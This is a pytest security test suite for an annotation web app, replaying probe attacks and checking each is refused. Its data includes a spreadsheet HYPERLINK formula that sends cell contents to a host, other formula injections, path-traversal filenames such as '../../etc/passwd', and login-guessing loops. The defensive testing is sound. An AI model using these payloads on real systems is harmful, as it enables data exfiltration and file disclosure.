"""The faults of the security probe (F1-F9, see docs/security.md), each walked as the attacker did and refused,
plus the robustness findings seen on the way. HTTP level; F4 also on PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from annotate_helpers import PASSWORD, claim, csrf_of, login, make_run, post_form
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from flames.annotate.app import create_app
from flames.annotate.auth import LoginLimiter
from flames.annotate.projects import Project, get_project, import_run, item_records
from flames.annotate.schema import ItemRow, LabelRow, LabelStatus
from flames.annotate.security import FIRST_PART_LIMIT
from flames.store import Store, StoreError

Clients = Callable[[str], TestClient]
SECRET = "ALICE-SECRET-NOTE"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """HTTP behaviour: SQLite only (F4's concurrency test overrides this with both databases)."""
    s = Store(f"sqlite:///{tmp_path / 'attacks.db'}")
    yield s
    s.close()


def item_of(store: Store, url: str) -> int:
    with store.session() as s:
        return int(s.get_one(LabelRow, int(url.rsplit("/", 1)[1])).item_id)


def label(client: TestClient, url: str, score: int, explanation: str = "") -> int:
    resp = post_form(client, url, {"action": "label", "score": score, "explanation": explanation})
    return resp.status_code  # type: ignore[attr-defined, no-any-return]


# -- F1: blind labelling stays blind ----------------------------------------------------------------------


def test_f1_nobody_reads_labels_of_an_item_still_being_labelled(
    client_for: Clients, project: Project, store: Store
) -> None:
    alice, judy, admin = client_for("alice"), client_for("judy"), client_for("admin")
    url = claim(alice)
    assert url is not None
    item_id = item_of(store, url)
    assert label(alice, url, 1, SECRET) == 303
    # the probe's path: the adjudicator (and the admin) open the item while it is still being labelled
    for who in (judy, admin):
        page = who.get(f"/p/p1/adj/{item_id}")
        assert page.status_code == 409 and "still being labelled" in page.text
        assert SECRET not in page.text and "alice" not in page.text
        # nor through the export or the agreement page
        assert SECRET not in admin.get("/p/p1/export?format=jsonl").text
        assert SECRET not in admin.get("/p/p1/export?format=csv").text
        assert "alice" not in who.get("/p/p1/agreement").text
    # having seen nothing, judy may label it: her label is independent, and the item goes on normally
    url_j = claim(judy)
    assert url_j is not None and item_of(store, url_j) == item_id
    assert label(judy, url_j, 3) == 303
    (rec,) = item_records(store, project, [item_id])
    assert rec.status == "adjudication"  # 1 vs 3: no fake "unanimous"
    # now that it needs adjudication, a different adjudicator sees the labels; the export shows them
    page = admin.get(f"/p/p1/adj/{item_id}")
    assert page.status_code == 200 and SECRET in page.text
    assert SECRET in admin.get("/p/p1/export?format=jsonl").text


def test_f1_whoever_saw_an_items_labels_is_never_assigned_it(
    client_for: Clients, project: Project, store: Store
) -> None:
    alice, bob, admin = client_for("alice"), client_for("bob"), client_for("admin")
    url_a = claim(alice)
    assert url_a is not None
    item_id = item_of(store, url_a)
    assert label(alice, url_a, 1, SECRET) == 303
    url_b = claim(bob)
    assert url_b is not None and item_of(store, url_b) == item_id
    assert label(bob, url_b, 3) == 303
    assert SECRET in admin.get(f"/p/p1/adj/{item_id}").text  # the admin has seen the labels...
    offered = []
    while (url := claim(admin)) is not None:  # ...and is then never handed the item to label
        offered.append(item_of(store, url))
        assert label(admin, url, 3) == 303
    assert offered and item_id not in offered


def test_f1_agreement_counts_only_items_whose_labelling_is_complete(
    client_for: Clients, store: Store, run: Any
) -> None:
    project = import_run(store, run, "three", per_item=3).project
    alice, bob, judy = client_for("alice"), client_for("bob"), client_for("judy")
    url_a = claim(alice, "three")
    assert url_a is not None
    assert label(alice, url_a, 1) == 303
    url_b = claim(bob, "three")
    assert url_b is not None and item_of(store, url_b) == item_of(store, url_a)
    assert label(bob, url_b, 1) == 303  # two of three labels: the item is still blind
    page = judy.get("/p/three/agreement").text
    assert "alice" not in page and "bob" not in page
    summary = judy.app.state.summaries.get(store, project).summary  # type: ignore[attr-defined]
    assert summary.overall.n_units == 0 and summary.annotators == []


# -- F2: no work before authentication --------------------------------------------------------------------


class Sent:
    def __init__(self, status: int, headers: dict[str, str], consumed: int):
        self.status, self.headers, self.consumed = status, headers, consumed


def asgi_post(
    app: Any, path: str, chunks: Iterable[bytes], content_type: str, *, cookie: str | None = None,
    length: int | None = None, extra: dict[str, str] | None = None,
) -> Sent:  # fmt: skip
    """POST straight to the ASGI app with a lazily produced body; counts how many body bytes the app took."""
    source = iter(chunks)
    pending = next(source, None)
    consumed = 0

    async def receive() -> dict[str, Any]:
        nonlocal pending, consumed
        if pending is None:
            return {"type": "http.disconnect"}
        chunk, pending = pending, next(source, None)
        consumed += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": pending is not None}

    messages: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        messages.append(message)

    headers = {"content-type": content_type, **(extra or {})}
    if cookie:
        headers["cookie"] = f"flames_session={cookie}"
    if length is not None:
        headers["content-length"] = str(length)
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST", "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "", "client": ("127.0.0.1", 1),
        "server": ("testserver", 80), "headers": [(k.encode(), v.encode()) for k, v in headers.items()],
    }  # fmt: skip
    asyncio.run(app(scope, receive, send))
    start = next(m for m in messages if m["type"] == "http.response.start")
    return Sent(start["status"], {k.decode(): v.decode() for k, v in start["headers"]}, consumed)


def multipart(token: str | None, size: int, chunk: int = 4096) -> Iterator[bytes]:
    """A multipart upload of `size` bytes of file data, produced lazily; the CSRF field first when given."""
    if token is not None:
        yield f'--b\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{token}\r\n'.encode()
    yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="x.jsonl"\r\n\r\n'
    for _ in range(size // chunk):
        yield b"A" * chunk
    yield b"\r\n--b--\r\n"


GIB = 1 << 30
MULTIPART = "multipart/form-data; boundary=b"


def test_f2_anonymous_uploads_are_refused_before_a_byte_is_read(client_for: Clients, store: Store) -> None:
    app = client_for("alice").app
    for declared in (GIB, None):  # with Content-Length, and chunked
        sent = asgi_post(app, "/admin/import", multipart(None, GIB), MULTIPART, length=declared)
        assert sent.consumed == 0 and sent.status in (403, 413), (declared, sent.status)
        assert "set-cookie" not in sent.headers and "content-security-policy" in sent.headers


def test_f2_session_and_csrf_are_checked_before_the_file_is_read(client_for: Clients, store: Store) -> None:
    alice, admin = client_for("alice"), client_for("admin")
    app = admin.app
    # an annotator with a valid session and token: only the leading token field is read, then 403
    token = csrf_of(alice.get("/").text)
    sent = asgi_post(app, "/admin/import", multipart(token, GIB), MULTIPART, cookie=alice.cookies["flames_session"])
    assert sent.status == 403 and sent.consumed <= FIRST_PART_LIMIT + 4096
    # the admin without the token as first field: refused after at most FIRST_PART_LIMIT bytes
    cookie = admin.cookies["flames_session"]
    sent = asgi_post(app, "/admin/import", multipart(None, GIB), MULTIPART, cookie=cookie)
    assert sent.status == 403 and sent.consumed <= FIRST_PART_LIMIT + 4096


def test_f2_every_body_is_capped_and_the_import_has_its_own_limit(store: Store, users: dict[str, int]) -> None:
    app = create_app(store, secure_cookies=False, secret="s", max_body=8192, max_import=256 << 10)
    admin = TestClient(app, follow_redirects=False)
    login(admin, "admin")
    cookie, token = admin.cookies["flames_session"], csrf_of(admin.get("/admin/import").text)
    # an ordinary form over --max-upload, declared or streamed
    form = "application/x-www-form-urlencoded"
    sent = asgi_post(app, "/logout", [b"x" * 4096] * 100, form, cookie=cookie, length=409600)
    assert sent.status == 413 and sent.consumed == 0
    sent = asgi_post(app, "/logout", [f"csrf_token={token}&".encode()] + [b"x" * 4096] * 100, form, cookie=cookie)
    assert sent.status == 413 and sent.consumed <= 8192 + 4096
    # the admin's upload: larger than --max-upload is fine, over --max-import it stops at the limit
    upload = multipart(token, 1 << 30)
    sent = asgi_post(app, "/admin/import", upload, MULTIPART, cookie=cookie)
    assert sent.status == 413 and sent.consumed <= (256 << 10) + 4096
    rows = [{"dimension": "Fairness", "subcomponent": "Bias and discrimination", "prompt": f"问{i}",
             "response": "答" * 200} for i in range(40)]  # fmt: skip
    body = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows).encode()
    assert 8192 < len(body) < 256 << 10
    resp = admin.post("/admin/import", data={"csrf_token": token, "project": "big"},
                      files={"file": ("big.jsonl", body, "application/x-ndjson")})  # fmt: skip
    assert resp.status_code == 200 and len(item_records(store, get_project(store, "big"))) == 40


def test_f2_prompt_design_uploads_are_read_only_after_authorisation(store: Store, users: dict[str, int]) -> None:
    """The design pages mounted in the app: their import streams after the writer check, within its limit."""
    from flames.annotate.auth import get_user
    from flames.design.collection import create_collection

    admin_user = get_user(store, users["admin"])
    assert admin_user is not None
    create_collection(store, admin_user, "red")
    app = create_app(store, secure_cookies=False, secret="s", max_import=64 << 10)
    clients = {}
    for name in ("alice", "judy"):  # an annotator (no part in prompt design) and an adjudicator (a writer)
        clients[name] = TestClient(app, follow_redirects=False)
        login(clients[name], name)
    path = "/design/c/red/import"
    for name, status in (("alice", 403), ("judy", 413)):
        client = clients[name]
        token = csrf_of(client.get("/").text)
        sent = asgi_post(app, path, multipart(token, GIB), MULTIPART, cookie=client.cookies["flames_session"])
        assert sent.status == status and sent.consumed <= (64 << 10) + 4096, name
    judy = clients["judy"]
    token = csrf_of(judy.get(path).text)
    for content in (b"\xff\xfe{", b"[1]\n", b""):
        resp = judy.post(path, data={"csrf_token": token}, files={"file": ("../evil.jsonl", content)})
        assert resp.status_code == 400 and "evil.jsonl" in resp.text and "/tmp" not in resp.text, resp.text


MALFORMED: dict[str, tuple[str, bytes, dict[str, str]]] = {
    # kind: (content type, body, extra headers); the token travels in the header where the body cannot hold it
    "no boundary": ("multipart/form-data", b"--b\r\n", {}),
    "not a form": ("text/plain", b"hello", {}),
    "garbled part headers": (MULTIPART, b"--b\r\nnonsense\r\n\r\nx\r\n--b--\r\n", {}),
    "part without a name": (MULTIPART, b'--b\r\nContent-Disposition: form-data\r\n\r\nx\r\n--b--\r\n', {}),
}
ROW = {"dimension": "Fairness", "subcomponent": "Bias and discrimination", "prompt": "p", "response": "r"}
CSV_HEAD = b"dimension,subcomponent,prompt,response\n"
FILES: dict[str, tuple[str, bytes]] = {
    "invalid UTF-8": ("a.jsonl", b'{"prompt": "\xff\xfe"}\n'),
    "empty file": ("a.jsonl", b""),
    "binary as parquet": ("a.parquet", b"\x89PNG\r\n\x1a\n" + bytes(range(256))),
    "JSON array line": ("a.jsonl", b"[1, 2, 3]\n"),
    "probs not numbers": ("a.jsonl", json.dumps({**ROW, "probs": ["x"]}).encode() + b"\n"),
    "CSV field over the csv module's limit": (
        "a.csv",
        CSV_HEAD + b'Fairness,Bias and discrimination,"' + b"x" * 200_000 + b'",r\n',
    ),
    "CSV missing columns": ("a.csv", b"a,b\n1,2\n"),
    "folder name": ("..", b"{}\n"),
    "path name": ("../../etc/passwd", b"root:x:0:0\n"),
}


@pytest.mark.parametrize("kind", sorted(MALFORMED))
def test_f2_malformed_forms_get_400_with_a_reason(client_for: Clients, kind: str) -> None:
    admin = client_for("admin")
    token = csrf_of(admin.get("/admin/import").text)
    ctype, body, extra = MALFORMED[kind]
    resp = admin.post("/admin/import", content=body, headers={"content-type": ctype, "x-csrf-token": token, **extra})
    assert resp.status_code == 400, resp.text
    assert 'class="message"' in resp.text and "content-security-policy" in resp.headers


@pytest.mark.parametrize("kind", sorted(FILES))
def test_f2_malformed_files_get_400_with_a_reason(client_for: Clients, store: Store, kind: str) -> None:
    admin = client_for("admin")
    token = csrf_of(admin.get("/admin/import").text)
    name, content = FILES[kind]
    resp = admin.post("/admin/import", data={"csrf_token": token, "project": "x"}, files={"file": (name, content)})
    assert resp.status_code == 400, resp.text
    assert "/tmp" not in resp.text and "Traceback" not in resp.text
    with pytest.raises(StoreError):
        get_project(store, "x")  # nothing half-imported


@pytest.mark.parametrize(
    ("fields", "reason"),
    [({"per_item": "abc"}, "whole number"), ({"per_item": "0"}, "between 1 and 10"), ({"project": ""}, "project"),
     ({"per_item": "11"}, "between 1 and 10"), ({"run": ""}, "choose a run")],
)  # fmt: skip
def test_f2_bad_import_fields_get_400(
    client_for: Clients, project: Project, fields: dict[str, str], reason: str
) -> None:
    admin = client_for("admin")
    data = {"project": "y", "run": "demo", **fields}
    resp = post_form(admin, "/admin/import", data)
    assert resp.status_code == 400 and reason in resp.text  # type: ignore[attr-defined]


# -- F3: throttling that cannot lock anyone out ------------------------------------------------------------


def _login_from(app: Any, address: str, username: str, password: str) -> int:
    client = TestClient(app, follow_redirects=False, client=(address, 5000))
    token = csrf_of(client.get("/login").text)
    return client.post("/login", data={"username": username, "password": password, "csrf_token": token}).status_code


def test_f3_failures_from_one_address_never_lock_the_owner_out(store: Store, users: dict[str, int]) -> None:
    app = create_app(store, secure_cookies=False, secret="s", limiter=LoginLimiter(free=3, base_delay=60))
    attacker = [_login_from(app, "203.0.113.66", "admin", f"guess-{i}") for i in range(8)]
    assert attacker[:4] == [401] * 4 and set(attacker[4:]) == {429}  # the guesser is slowed down...
    assert _login_from(app, "198.51.100.7", "admin", PASSWORD) == 303  # ...the admin elsewhere is not
    assert _login_from(app, "203.0.113.66", "alice", PASSWORD) == 303  # nor other accounts from that address


def test_f3_delays_grow_and_a_success_clears_them() -> None:
    now = [0.0]
    limiter = LoginLimiter(free=2, base_delay=1.0, max_delay=30.0, forget_s=3600, clock=lambda: now[0])
    waits = []
    for _ in range(9):
        limiter.failed("u", "a")
        waits.append(limiter.retry_after("u", "a"))
    assert waits == [0, 0, 1, 2, 4, 8, 16, 30, 30]
    assert limiter.retry_after("u", "b") == 0 and limiter.retry_after("v", "a") == 0
    now[0] += 29
    assert limiter.retry_after("u", "a") == pytest.approx(1)
    limiter.succeeded("u", "a")
    assert limiter.retry_after("u", "a") == 0
    limiter.failed("w", "a")
    now[0] += 3601
    assert limiter.retry_after("w", "a") == 0  # forgotten after an hour without failures


def test_f3_one_address_trying_many_accounts_hits_the_per_address_limit(store: Store, users: dict[str, int]) -> None:
    app = create_app(store, secure_cookies=False, secret="s", limiter=LoginLimiter(per_client=5))
    statuses = [_login_from(app, "203.0.113.5", f"user{i}", "guess") for i in range(7)]
    assert statuses[:5] == [401] * 5 and statuses[5:] == [429, 429]
    assert _login_from(app, "198.51.100.8", "alice", PASSWORD) == 303


def test_f3_limiter_memory_is_bounded() -> None:
    limiter = LoginLimiter(max_keys=100)
    for i in range(1000):
        limiter.failed(f"name{i}", f"10.0.{i // 250}.{i % 250}")
    assert len(limiter._pairs) == 100 and len(limiter._clients) == 100


@pytest.mark.parametrize(("proxies", "counted_apart"), [(None, False), ("127.0.0.1", True)])
def test_f3_forwarded_for_is_believed_only_from_configured_proxies(
    store: Store, users: dict[str, int], proxies: str | None, counted_apart: bool
) -> None:
    """Through uvicorn with `serve`'s proxy settings: 3 failures, each claiming another X-Forwarded-For."""
    import socket

    import httpx
    import uvicorn

    from flames.annotate.app import server_options

    app = create_app(store, secure_cookies=False, secret="s", limiter=LoginLimiter(per_client=3))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning", **server_options(proxies))
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        while not server.started:
            thread.join(0.05)
        statuses = []
        for i in range(4):
            with httpx.Client(base_url=f"http://127.0.0.1:{port}", headers={"x-forwarded-for": f"192.0.2.{i}"}) as c:
                token = csrf_of(c.get("/login").text)
                data = {"username": f"nobody{i}", "password": "guess", "csrf_token": token}
                statuses.append(c.post("/login", data=data).status_code)
    finally:
        server.should_exit = True
        thread.join(10)
    assert statuses == ([401] * 4 if counted_apart else [401, 401, 401, 429])


# -- F4: one open claim per annotator; GET changes nothing -------------------------------------------------


@pytest.fixture
def solo(store_url: str, tmp_path: Path) -> Iterator[tuple[Store, TestClient, list[TestClient]]]:
    """A per-item-1 project on SQLite and PostgreSQL; a client for race1, and one each for 6 others."""
    from flames.annotate.auth import add_user
    from flames.annotate.schema import Role

    store = Store(store_url)
    import_run(store, make_run(store), "SOLO", per_item=1)
    names = ["race1", *(f"ann{i}" for i in range(6))]
    for name in names:
        add_user(store, name, PASSWORD, Role.ANNOTATOR)
    app = create_app(store, secure_cookies=False, secret="s")
    clients = []
    for name in names:
        client = TestClient(app, follow_redirects=False)
        login(client, name)
        clients.append(client)
    yield store, clients[0], clients[1:]
    for c in clients:
        c.close()
    store.close()


def _post_next_at_once(jobs: list[tuple[TestClient, str]]) -> list[str | None]:
    """POST /p/SOLO/next for every (client, token) at the same moment; the locations handed back."""
    barrier = threading.Barrier(len(jobs))
    out: list[str | None] = [None] * len(jobs)

    def go(i: int, client: TestClient, token: str) -> None:
        barrier.wait()
        resp = client.post("/p/SOLO/next", data={"csrf_token": token})
        out[i] = resp.headers.get("location") if resp.status_code == 303 else None

    threads = [threading.Thread(target=go, args=(i, c, t)) for i, (c, t) in enumerate(jobs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    return out


def _pending(store: Store) -> dict[int, int]:
    with store.session() as s:
        pending = select(LabelRow.user_id, func.count()).where(LabelRow.status == LabelStatus.PENDING)
        rows = s.execute(pending.group_by(LabelRow.user_id)).all()
    return {int(u): int(n) for u, n in rows}


@pytest.mark.timeout(180)
def test_f4_concurrent_claims_by_one_annotator_hold_one_item(
    solo: tuple[Store, TestClient, list[TestClient]],
) -> None:
    store, race, _ = solo
    token = csrf_of(race.get("/").text)
    locations = _post_next_at_once([(race, token)] * 12)
    assert len(set(locations)) == 1 and locations[0] is not None
    assert list(_pending(store).values()) == [1]


@pytest.mark.timeout(180)
def test_f4_concurrent_claims_by_many_hold_one_each(solo: tuple[Store, TestClient, list[TestClient]]) -> None:
    store, _, others = solo
    jobs = [(c, csrf_of(c.get("/").text)) for c in others for _ in range(3)]
    locations = _post_next_at_once(jobs)
    by_client = {id(c): {loc for (cc, _), loc in zip(jobs, locations, strict=True) if cc is c} for c in others}
    assert all(len(locs) == 1 and None not in locs for locs in by_client.values())
    pending = _pending(store)
    assert len(pending) == len(others) and set(pending.values()) == {1}
    with store.session() as s:  # per item 1: no item has two claims
        per_item = s.execute(select(LabelRow.item_id, func.count()).group_by(LabelRow.item_id)).all()
    assert all(n == 1 for _, n in per_item)


BROWSER_NAVIGATIONS = ("cross-site", "same-site", "same-origin", "none")
"""Values of `Sec-Fetch-Site` a browser sends with a navigation (W3C Fetch Metadata)."""


def test_f4_browser_gets_change_nothing(client_for: Clients, project: Project, store: Store) -> None:
    alice, judy, admin = client_for("alice"), client_for("judy"), client_for("admin")

    def state() -> tuple[Any, ...]:
        with store.session() as s:
            return (
                s.execute(select(LabelRow.id, LabelRow.status)).all(),
                s.execute(select(ItemRow.id, ItemRow.version, ItemRow.status)).all(),
            )

    before = state()
    for site in BROWSER_NAVIGATIONS:
        for client in (alice, judy, admin):
            for path in ("/", "/p/p1/next", "/p/p1/mine", "/p/p1/adjudicate", "/p/p1/agreement", "/admin/import",
                         "/p/p1/export?format=csv", "/p/p1/a/1", "/p/p1/adj/1"):  # fmt: skip
                assert client.get(path, headers={"Sec-Fetch-Site": site}).status_code < 500, path
        page = alice.get("/p/p1/next", headers={"Sec-Fetch-Site": site})
        assert page.status_code == 200 and 'action="/p/p1/next"' in page.text and 'method="post"' in page.text
    assert alice.head("/p/p1/next").status_code in (200, 405)  # a HEAD never claims either
    assert state() == before  # nothing was claimed by looking, whatever site the navigation came from
    token = csrf_of(alice.get("/", headers={"Sec-Fetch-Site": "same-origin"}).text)
    url = alice.post("/p/p1/next", data={"csrf_token": token}).headers["location"]  # the button's POST claims
    assert state() != before
    shown = alice.get("/p/p1/next", headers={"Sec-Fetch-Site": "cross-site"}).headers["location"]
    assert shown == url  # and GET then shows the open assignment


def test_f4_a_script_claims_by_get_one_item_at_a_time(
    solo: tuple[Store, TestClient, list[TestClient]],
) -> None:
    """A client without Fetch Metadata (curl, a script) claims with GET, as the security probe does; no other
    site can steer it, and 30 concurrent GETs still hold one item."""
    store, race, _ = solo
    barrier = threading.Barrier(30)
    locations: list[str | None] = [None] * 30

    def go(i: int) -> None:
        barrier.wait()
        resp = race.get("/p/SOLO/next")
        locations[i] = resp.headers.get("location") if resp.status_code == 303 else None

    threads = [threading.Thread(target=go, args=(i,)) for i in range(30)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert len(set(locations)) == 1 and locations[0] is not None and "/p/SOLO/a/" in locations[0]
    assert list(_pending(store).values()) == [1]


# -- F5: spreadsheet-safe CSV, exact JSONL ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?x="&A2,"details")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_f5_csv_neutralises_formulas_and_jsonl_stays_exact(client_for: Clients, store: Store) -> None:
    import_run(store, make_run(store, "formulas", answers=FORMULAS), "F", per_item=1)
    alice, admin = client_for("alice"), client_for("admin")
    while (url := claim(alice, "F")) is not None:
        assert post_form(alice, url, {"action": "label", "score": 1, "explanation": "=1+2"}).status_code == 303  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(admin.get("/p/F/export?format=csv").text)))
    responses = {r["response"] for r in rows}
    assert {"'" + f for f in FORMULAS} <= responses
    assert all(r["explanation_1"] == "'=1+2" for r in rows)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert all(r["predicted"] == "1" for r in rows)  # numbers untouched
    exact = [json.loads(line) for line in admin.get("/p/F/export?format=jsonl").text.splitlines()]
    assert set(FORMULAS) <= {r["response"] for r in exact}
    assert all(r["labels"][0]["explanation"] == "=1+2" for r in exact)


# -- F7: the web never reads the server's disk ---------------------------------------------------------------


def test_f7_web_import_takes_only_stored_runs_or_uploads(
    client_for: Clients, project: Project, store: Store, tmp_path: Path
) -> None:
    admin = client_for("admin")
    on_disk = tmp_path / "server-side.jsonl"
    on_disk.write_text('{"dimension": "Fairness", "subcomponent": "Bias and discrimination", "prompt": "p", '
                       '"response": "r"}\n', encoding="utf-8")  # fmt: skip
    answers = []
    for path in (str(on_disk), "/etc/passwd", "/etc/no-such-file", str(tmp_path)):
        resp = post_form(admin, "/admin/import", {"project": "SRV", "run": path})
        answers.append((resp.status_code, resp.text.replace(path, "PATH")))  # type: ignore[attr-defined]
    assert {status for status, _ in answers} == {404}  # the same answer whether the path exists or not
    assert len({text for _, text in answers}) == 1 and "no run named" in answers[0][1]
    with pytest.raises(StoreError):
        get_project(store, "SRV")
    assert post_form(admin, "/admin/import", {"project": "ok", "run": "demo"}).status_code == 200  # type: ignore[attr-defined]


# -- F8: a refused request never replaces the visitor's cookie ------------------------------------------------


def test_f8_refused_cross_site_posts_set_no_cookie(client_for: Clients, project: Project) -> None:
    alice = client_for("alice")
    url = claim(alice)
    assert url is not None
    stranger = TestClient(alice.app, follow_redirects=False)  # what SameSite=Lax sends cross-site: no cookie
    for path, data in ((url, {"action": "label", "score": 1}), ("/logout", {}), ("/login", {"username": "alice"}),
                       ("/admin/users", {"username": "m", "password": "x" * 12, "role": "admin"})):  # fmt: skip
        resp = stranger.post(path, data=data)
        assert resp.status_code == 403 and "set-cookie" not in resp.headers, path
    # a same-site request with a wrong token is refused and leaves the session as it was
    resp = alice.post(url, data={"action": "label", "score": 1, "csrf_token": "forged"})
    assert resp.status_code == 403
    assert alice.get("/").status_code == 200 and alice.get(url).status_code == 200


# -- F9: no secrets in messages ----------------------------------------------------------------------------------


def test_f9_store_urls_are_shown_with_the_password_masked(
    client_for: Clients, project: Project, store: Store, caplog: pytest.LogCaptureFixture
) -> None:
    from flames.urls import masked_url

    secret_url = "postgresql+psycopg://flames:S3cretDbPassw0rd@db.internal/flames"
    assert masked_url(secret_url) == "postgresql+psycopg://flames:***@db.internal/flames"
    assert masked_url("weird://u:S3cretDbPassw0rd@host:notaport/x") == "weird://u:***@host:notaport/x"
    assert masked_url("sqlite:////tmp/a@b/flames.db") == "sqlite:////tmp/a@b/flames.db"
    store.url = secret_url  # as the probe did: the app's store now names a PostgreSQL server with a password
    admin = client_for("admin")
    with caplog.at_level("DEBUG"):
        page = post_form(admin, "/admin/import", {"project": "X", "run": "typo"})
        with pytest.raises(StoreError) as err:
            store.get_run("typo")
    assert page.status_code == 404 and "S3cretDbPassw0rd" not in page.text  # type: ignore[attr-defined]
    assert "S3cretDbPassw0rd" not in str(err.value) and "flames:***@db.internal" in str(err.value)
    assert "S3cretDbPassw0rd" not in caplog.text


@pytest.mark.postgres
def test_f9_cli_messages_mask_the_password(pg_url: str) -> None:
    """A real PostgreSQL store reached with a password (the test server trusts any): no command prints it."""
    from typer.testing import CliRunner

    from flames.cli import app as cli

    url = pg_url.replace("://flames@", "://flames:S3cretDbPassw0rd@")
    Store(url).close()
    for args in (["runs", "list"], ["report", "no-such-run"], ["annotate", "import", "no-such-run", "-p", "x"]):
        result = CliRunner().invoke(cli, [*args, "--db", url])
        shown = result.output + str(result.exception or "")  # errors reach the user through the CLI's handler
        assert "S3cretDbPassw0rd" not in shown and "flames:***@" in shown, (args, shown)


# -- robustness --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["/p/p1/a/99999999999999999999", "/p/p1/a/2147483648", "/p/p1/a/0", "/p/p1/a/abc", "/p/p1/adj/-1",
             "/p/p1/adj/99999999999999999999", "/p/p1/a/1e3"],
)  # fmt: skip
def test_out_of_range_ids_are_404_with_security_headers(client_for: Clients, project: Project, path: str) -> None:
    resp = client_for("admin").get(path)
    assert resp.status_code == 404 and "content-security-policy" in resp.headers and "x-frame-options" in resp.headers
    admin = client_for("admin")
    token = csrf_of(admin.get("/").text)
    resp = admin.post("/admin/users/99999999999999999999/active", data={"csrf_token": token, "active": "false"})
    assert resp.status_code == 404 and "content-security-policy" in resp.headers


def test_unexpected_errors_keep_the_security_headers(store: Store, users: dict[str, int]) -> None:
    app = create_app(store, secure_cookies=False, secret="s")

    @app.get("/boom")
    def boom() -> None:
        raise RuntimeError("bug")

    resp = TestClient(app, raise_server_exceptions=False).get("/boom")
    assert resp.status_code == 500 and "content-security-policy" in resp.headers and "bug" not in resp.text


def test_a_200000_character_answer_is_served_in_blocks_and_folded(client_for: Clients, store: Store) -> None:
    from flames.annotate.web import FOLD_AFTER, PART

    long = "长" * 150_000 + "\n" + "A" * 50_000 + "<b>x</b>"
    import_run(store, make_run(store, "long", per_dimension=1, answers=[long]), "L", per_item=1)
    alice = client_for("alice")
    url = claim(alice, "L")
    assert url is not None
    page = alice.get(url).text
    assert len(long) > FOLD_AFTER and 'id="response-text-more"' in page and "<details" in page
    import re

    blocks = re.findall(r'<div class="block">([^<]*)</div>', page)
    assert all(len(b) <= len("&lt;b&gt;x&lt;/b&gt;") + PART for b in blocks)
    shown = page.split('id="response-text"')[1].split("</details>")[0]
    assert "&lt;b&gt;x&lt;/b&gt;" in shown and "<b>x</b>" not in page  # all of it, as text
    assert "".join(blocks).replace("&lt;", "<").replace("&gt;", ">").endswith(long)


def test_the_agreement_cache_computes_once_and_refreshes_in_the_background(
    client_for: Clients, project: Project, store: Store
) -> None:
    from flames.annotate.summary import summarize
    from flames.annotate.summary_cache import SummaryCache

    calls: list[int] = []
    gate = threading.Event()

    def counted(s: Store, p: Project) -> Any:
        calls.append(1)
        gate.wait(30)
        return summarize(s, p, n_boot=50)

    cache = SummaryCache(counted, wait_s=0.05)
    gate.clear()
    first = cache.get(store, project)  # a first view does not wait long: the page says it is computing
    assert first.summary is None and not first.current and first.progress.items == len(item_records(store, project))
    judy = client_for("judy")
    own = judy.app.state.summaries  # type: ignore[attr-defined]
    judy.app.state.summaries = cache  # type: ignore[attr-defined]
    page = judy.get("/p/p1/agreement").text
    assert 'id="computing"' in page and 'http-equiv="refresh"' in page and "Krippendorff" not in page
    judy.app.state.summaries = own  # type: ignore[attr-defined]
    assert "Krippendorff" in judy.get("/p/p1/agreement").text  # a small project: computed within the wait
    gate.set()
    for _ in range(600):
        if cache.get(store, project).summary is not None:
            break
        threading.Event().wait(0.05)
    cache.close()
    calls.clear()

    cache = SummaryCache(counted, wait_s=30)
    gate.clear()
    results: list[Any] = []
    threads = [threading.Thread(target=lambda: results.append(cache.get(store, project))) for _ in range(8)]
    for t in threads:
        t.start()
    gate.set()
    for t in threads:
        t.join(30)
    assert len(calls) == 1 and len(results) == 8 and all(r.current for r in results)  # 8 first views, 1 computation
    assert cache.get(store, project).current and len(calls) == 1  # unchanged: served from the cache
    alice, bob = client_for("alice"), client_for("bob")
    url_a = claim(alice)
    assert url_a is not None and label(alice, url_a, 1) == 303
    url_b = claim(bob)
    assert url_b is not None and label(bob, url_b, 3) == 303  # an item left labelling: figures are stale
    gate.clear()
    stale = cache.get(store, project)
    assert not stale.current and stale.summary.overall.n_units == 0  # answered at once, with the old figures
    assert stale.summary.progress.adjudication == 1  # progress is always fresh
    gate.set()
    for _ in range(300):
        fresh = cache.get(store, project)
        if fresh.current:
            break
        threading.Event().wait(0.05)
    assert fresh.current and fresh.summary.overall.n_units == 1 and len(calls) == 2
    cache.close()
